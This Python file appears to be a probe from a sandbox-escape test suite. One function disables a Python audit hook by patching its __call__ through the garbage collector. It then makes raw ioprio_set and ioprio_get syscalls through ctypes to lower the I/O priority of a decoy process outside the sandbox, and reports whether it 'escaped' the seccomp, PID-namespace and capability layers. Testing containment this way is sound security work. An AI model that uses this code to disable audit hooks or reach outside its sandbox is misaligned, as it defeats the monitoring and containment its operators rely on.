# Sets the I/O priority of a process outside the run (`target_pid`, the decoy) to the idle
# class, so that its disk I/O waits behind everyone else's: ioprio_set, through ctypes once the
# audit hook is disabled. Escaped: ioprio_get on the target reads the idle class back.
def ioprio_other(target_pid=0, **_):
    import os
    def unhook():  # the audit hook is a Python object: its class's __call__ becomes a no-op
        import gc
        gc.unfreeze()
        for obj in gc.get_objects():
            if "Audit" in type(obj).__name__ and callable(obj):
                try:
                    type(obj).__call__ = lambda self, *args: None
                except (TypeError, AttributeError):
                    pass

    unhook()
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
    except Exception as exc:  # the audit hook held, or there is no ctypes
        return {"escaped": False, "detail": f"no ctypes: {exc!r}"}
    libc.syscall.restype = ctypes.c_long

    def sys_call(nr, *args):  # (result, errno)
        ctypes.set_errno(0)
        res = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
        return res, (ctypes.get_errno() if res < 0 else 0)
    if not target_pid:
        return {"escaped": False, "detail": "no target_pid given"}
    who_process, idle = 1, 3 << 13  # IOPRIO_WHO_PROCESS; IOPRIO_PRIO_VALUE(IOPRIO_CLASS_IDLE, 0)
    res, err = sys_call(251, who_process, target_pid, idle)  # ioprio_set
    if res < 0:
        return {"escaped": False, "detail": f"ioprio_set refused: {os.strerror(err)}"}
    now, err = sys_call(252, who_process, target_pid)  # ioprio_get
    return {"escaped": now == idle, "detail": f"the target's I/O priority is now {now:#x}"}


# caps: the kernel refuses it on a process that holds a capability the caller lacks (as root).
LAYERS = ("seccomp", "pid_namespace", "caps")
NEEDS_ROOT = False
